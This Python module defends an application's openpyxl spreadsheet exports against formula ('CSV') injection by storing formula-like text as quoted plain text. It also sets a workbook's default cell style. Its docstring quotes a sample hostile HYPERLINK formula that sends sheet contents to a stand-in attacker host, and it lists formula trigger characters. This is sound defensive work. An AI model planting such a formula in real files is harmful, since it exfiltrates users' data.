"""Spreadsheets the system writes (openpyxl): text stays text.

openpyxl stores any string that begins with "=" as a formula, and Excel or WPS would
calculate it when the file is opened: a progress note reading
``=HYPERLINK("http://evil.example/?"&A1, "点击")`` would become a live link that sends
the sheet's data away (formula or "CSV" injection, OWASP). Every writer of .xlsx calls
`neutralise_formulas` on each sheet it fills with people's text, or, for a write-only
sheet, `safe_row` on each row before appending it.
"""
from __future__ import annotations

# What a spreadsheet reads as the start of a formula (or, after a tab or carriage
# return, as a new cell that may be one): the same set as the audit log's CSV export.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value[:1] in FORMULA_TRIGGERS


def neutralise_formulas(ws) -> int:
    """Store every text cell of `ws` that a spreadsheet could take for a formula as
    plain text with Excel's quote prefix: it is shown and read back exactly as written,
    never calculated, and stays text when someone edits the cell. Returns the number of
    cells changed. The system itself writes no formulas.

    A write-only sheet (``Workbook(write_only=True)``, for large exports) cannot be
    walked afterwards: pass each row through `safe_row` before appending it."""
    changed = 0
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f" or looks_like_formula(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True
                changed += 1
    return changed


def safe_row(ws, values) -> list:
    """`values` ready for ``ws.append``, with formula-like text as quoted text cells
    (the same treatment as `neutralise_formulas`); for write-only workbooks
    (``Workbook(write_only=True)``), whose sheets cannot be walked afterwards. Works in
    the normal mode too. Other values (cells already made among them) are kept as they
    are."""
    from openpyxl.cell import WriteOnlyCell

    out = []
    for value in values:
        if looks_like_formula(value):
            cell = WriteOnlyCell(ws, value=value)
            cell.data_type = "s"
            cell.quotePrefix = True
            out.append(cell)
        else:
            out.append(value)
    return out


def set_default_cell_style(wb, *, font=None, alignment=None, border=None) -> None:
    """Gives the workbook's default cell format this font, alignment and border: every
    cell written without a style takes it. A write-only sheet of 10,000 rows then needs
    no style object per cell (which costs as much as the rest of the writing): only the
    cells that differ carry one. Call before writing any cell.

    Both places a spreadsheet reads the default from are set: the "Normal" cell style
    (cellStyleXfs 0, what LibreOffice applies to a cell without a style) and cellXfs 0
    (what Excel applies). openpyxl has no public API for the second; this replaces the
    first entry of ``Workbook._cell_styles``, which its stylesheet writer emits as
    cellXfs 0 — duban/exports/tests check the result in openpyxl and in LibreOffice."""
    from openpyxl.styles.cell_style import StyleArray
    from openpyxl.utils.indexed_list import IndexedList

    normal = wb._named_styles["Normal"]
    default = StyleArray()
    if font is not None:
        normal.font = font
        default.fontId = wb._fonts.add(font)
    if border is not None:
        normal.border = border
        default.borderId = wb._borders.add(border)
    if alignment is not None:
        normal.alignment = alignment
        default.alignmentId = wb._alignments.add(alignment)
    wb._cell_styles = IndexedList([default, *list(wb._cell_styles)[1:]])
